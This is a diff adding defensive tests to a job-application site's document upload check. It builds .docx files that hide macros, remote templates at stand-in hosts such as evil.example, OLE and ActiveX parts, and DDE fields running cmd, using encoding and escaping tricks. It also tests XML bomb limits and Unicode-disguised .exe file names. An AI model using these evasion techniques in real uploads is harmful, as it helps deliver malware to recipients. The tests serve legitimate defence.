@@ -107,6 +107,124 @@ test.each<[string, Uint8Array | undefined, string, string]>([
   expect(await filesOf(site)).toEqual([]);
 });
 
+const TYPES = '[Content_Types].xml';
+const RELATIONS = 'word/_rels/document.xml.rels';
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const relation = (type: string, target: string, mode = 'External') =>
+  `<r:Relationships xmlns:r="x"><r:Relationship Id="a" Type="${type}" Target="${target}" TargetMode="${mode}"/></r:Relationships>`;
+const typesWith = (override: string) =>
+  `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${override}</Types>`;
+const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
+const field = (instruction: string) => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction}</w:p>`;
+
+test('nothing that Word would run or load is hidden from the check of a document', async () => {
+  await using site = await openTestSite({ CONTACT_PER_10_MINUTES: '1000', CONTACT_GLOBAL_PER_10_MINUTES: '1000' });
+  const macros = '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
+  const hidden: Record<string, Record<string, string | Buffer>> = {
+    'a type by references': {
+      [TYPES]: typesWith(macros.replace('vbaProject', '&#x76;b&#97;Project')),
+    },
+    'a main type by references': { [TYPES]: typesWith('<Override ContentType="a.&#109;acroEnabled.main+xml"/>') },
+    'a type in UTF-16': { [TYPES]: utf16(typesWith(macros)) },
+    'an entity of a DTD': { [TYPES]: `<!DOCTYPE a [<!ENTITY v "vba">]>${typesWith(macros.replace('vba', '&v;'))}` },
+    'another encoding': { [TYPES]: typesWith('').replace('"1.0"', '"1.0" encoding="utf-7"') },
+    'letter case': {
+      [TYPES]: typesWith(macros.toUpperCase().replace('OVERRIDE', 'Override').replace('CONTENTTYPE', 'ContentType')),
+    },
+    'a second list of types': { '[content_types].XML': typesWith(macros) },
+    'a relationship by references': {
+      [RELATIONS]: relation(
+        'http://schemas.microsoft.com/office/2006/relationships/&#118;baProject',
+        'a.bin',
+        'Internal',
+      ),
+    },
+    'an escaped target': { [RELATIONS]: relation('a', '%76baProject.bin', 'Internal') },
+    'an escaped name of a part': { 'word/%76baProject.bin': 'Sub' },
+    'a template of another server': {
+      [RELATIONS]: relation(`${OFFICE}/attachedTemplate`, 'https://evil.example/a.dotm'),
+    },
+    'a template of a share': { [RELATIONS]: relation(`${OFFICE}/attachedTemplate`, 'file://evil/a.dotm') },
+    'a template by references, in UTF-16': {
+      [RELATIONS]: utf16(relation(`${OFFICE}/attachedTemplate`, '&#104;ttp://evil.example/a.dotm')),
+    },
+    'an OLE object': { [RELATIONS]: relation(`${OFFICE}/oleObject`, 'embeddings/a.bin', 'Internal') },
+    'an imported document': { [RELATIONS]: relation(`${OFFICE}/aFChunk`, 'a.docm', 'Internal') },
+    'an ActiveX control': { 'word/activeX/activeX1.xml': '<a/>' },
+    'a DDE field in pieces': {
+      'word/document.xml': `<w:document xmlns:w="x">${field('<w:instrText> D</w:instrText><w:instrText>D&#69;AUTO c:\\cmd</w:instrText>')}</w:document>`,
+    },
+    'a simple DDE field in a footer': {
+      'word/footer1.xml': '<w:a xmlns:w="x"><w:fldSimple w:instr=" D&#68;E cmd"/></w:a>',
+    },
+  };
+  for (const [name, more] of Object.entries(hidden)) {
+    const answer = await errorsOf(await applyForJob(site, makeDocx({ more }), 'cv.docx'));
+    expect([name, answer]).toEqual([name, [422, { cv: [NOT_A_CV] }]]);
+  }
+  // What ordinary documents have.
+  const harmless: Record<string, string | Buffer> = {
+    [TYPES]: utf16(typesWith('<Default Extension="png" ContentType="image/png"/>')),
+    [RELATIONS]: relation(`${OFFICE}/hyperlink`, 'https://www.linkedin.com/in/jay'),
+    'word/_rels/settings.xml.rels': relation(
+      `${OFFICE}/attachedTemplate`,
+      'file:///C:\\Users\\Jay\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx',
+    ),
+    'word/document.xml': `<w:document xmlns:w="x">${field('<w:instrText> PAGE </w:instrText><w:t>DDE AUTO</w:t>')}</w:document>`,
+    'word/media/image1.png': PDF,
+  };
+  expect((await applyForJob(site, makeDocx({ more: harmless }), 'cv.docx')).status).toBe(201);
+});
+
+test('the largest document in its worst shape is checked in a moment', async () => {
+  await using site = await openTestSite();
+  const elements = (name: string) => `<a>${`<${name}/>`.repeat(2_000_000)}</a>`;
+  const newlines = `<w:a xmlns:w="x"><w:instrText>${'\n"'.repeat(1_000_000)}</w:instrText></w:a>`;
+  const shapes: Record<string, string>[] = [
+    { [RELATIONS]: elements('a') },
+    { 'word/document.xml': elements('w:instrText') },
+    { 'word/document.xml': newlines },
+    { [RELATIONS]: '<a>'.repeat(5_000_000) },
+    { [RELATIONS]: `<a ${Array.from({ length: 900_000 }, (_, index) => `b${index}=""`).join(' ')}/>` },
+  ];
+  for (const more of shapes) {
+    const begun = performance.now();
+    const { status } = await applyForJob(site, makeDocx({ more }), 'cv.docx');
+    expect([201, 422]).toContain(status);
+    // Without limits on size, depth and attributes it takes up to 12 seconds.
+    expect(performance.now() - begun).toBeLessThan(3_000);
+  }
+});
+
+test('the name of a file does not show another ending than it has', async () => {
+  await using site = await openTestSite();
+  const hidden = [
+    '\u202e',
+    '\u202d',
+    '\u2066',
+    '\u2069',
+    '\u200e',
+    '\u200f',
+    '\u061c',
+    '\u200b',
+    '\u200d',
+    '\ufeff',
+    '\u00ad',
+  ];
+  await applyForJob(site, PDF, `Jay${hidden.join('')}fdp.exe${' '.repeat(90)}\u2028.pdf`);
+  const panel = await openPanel(site);
+  const message = await (await panel('/1')).text();
+  const download = (await panel('/1/cv')).headers.get('content-disposition');
+  expect(message).toContain('Jayfdp.exe .pdf');
+  expect(download).toBe(`attachment; filename="Jayfdp.exe .pdf"; filename*=UTF-8''Jayfdp.exe%20.pdf`);
+  const texts = [message, await (await panel('.csv')).text(), JSON.stringify(site.emails)];
+  for (const text of texts) expect(text).not.toMatch(/[\u061c\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/);
+
+  // Of an earlier version.
+  await site.db.updateTable('message_files').set({ file_name: 'cv\u202efdp.exe' }).execute();
+  expect((await panel('/1/cv')).headers.get('content-disposition')).toContain(`filename*=UTF-8''cvfdp.exe`);
+});
+
 test('10 MB are accepted, and every wrong field is told', async () => {
   await using site = await openTestSite();
   const wrong = { name: ' ', email: 'jay@example', telephone: '1'.repeat(41) };
